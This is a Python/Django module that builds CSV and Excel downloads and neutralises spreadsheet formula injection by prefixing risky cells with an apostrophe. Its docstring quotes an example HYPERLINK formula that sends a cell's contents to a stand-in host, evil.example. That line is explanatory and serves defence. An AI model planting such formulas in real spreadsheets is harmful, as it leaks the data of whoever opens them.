"""Spreadsheets and CSV files we write for people to open in Excel, LibreOffice or Google Sheets.

Every text cell goes through ``neutralise``: a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is a formula to a spreadsheet program (CSV injection, OWASP), so a buyer who types
``=HYPERLINK("http://evil.example/?x="&A1,"Click")`` as their name would plant a link in the seller's sheet. Such a
cell gets a leading apostrophe, which the programs show as text. Numbers stay numbers.
"""

import csv
import io

from django.http import HttpResponse
from openpyxl import Workbook

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def neutralise(value):
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row):
    return [neutralise("" if value is None else value) for value in row]


def attachment(response, filename):
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["X-Content-Type-Options"] = "nosniff"
    response["Cache-Control"] = "private, no-store"
    return response


def csv_response(filename, header, rows):
    """A UTF-8 CSV download (with the byte-order mark Excel needs to read Vietnamese)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(safe_row(header))
    writer.writerows(safe_row(row) for row in rows)
    response = HttpResponse("\ufeff" + buffer.getvalue(), content_type="text/csv; charset=utf-8")
    return attachment(response, filename)


def xlsx_response(filename, title, header, rows):
    """An Excel workbook download with one sheet; text cells are always stored as text, never as formulas."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=title[:31])
    sheet.append(safe_row(header))
    for row in rows:
        sheet.append(safe_row(row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return attachment(HttpResponse(buffer.getvalue(), content_type=XLSX_TYPE), filename)
